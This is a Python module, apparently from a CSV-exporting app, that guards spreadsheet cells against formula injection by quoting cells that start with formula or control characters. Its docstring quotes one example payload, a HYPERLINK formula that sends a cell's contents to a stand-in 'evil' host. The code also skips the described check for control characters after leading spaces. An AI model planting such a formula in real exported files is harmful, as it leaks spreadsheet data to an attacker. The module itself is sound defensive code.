"""Text cells of every CSV the app writes, neutralised against formula injection (OWASP's rule).

A spreadsheet (Excel, LibreOffice, Google Sheets) runs a cell that starts with `=`, `+`, `-` or `@` as a
formula: `=HYPERLINK("http://evil/?x="&A2,"click")` in a moderator's note or a Nominatim place name would
run on a newsroom's machine. Such a text cell gets a leading single quote, which spreadsheets take as "this
is text" and hide. The same goes for a leading tab, carriage return, line feed or NUL, for those characters
after leading spaces (some programs trim before they look), and for their full-width forms (which some
convert). Only text goes through here: the numbers we write ourselves (coordinates such as -66.9, counts)
stay numbers, so a negative longitude is still read as a number.
"""

from __future__ import annotations

FORMULA_STARTS = frozenset("=+-@\uff1d\uff0b\uff0d\uff20")
CONTROL_STARTS = frozenset("\t\r\n\0")


def text_cell(value: str) -> str:
    """`value` as a CSV cell a spreadsheet shows as text and never evaluates."""
    if not value:
        return value
    if value[0] in CONTROL_STARTS:
        return "'" + value
    stripped = value.lstrip()
    if stripped and stripped[0] in FORMULA_STARTS:
        return "'" + value
    return value
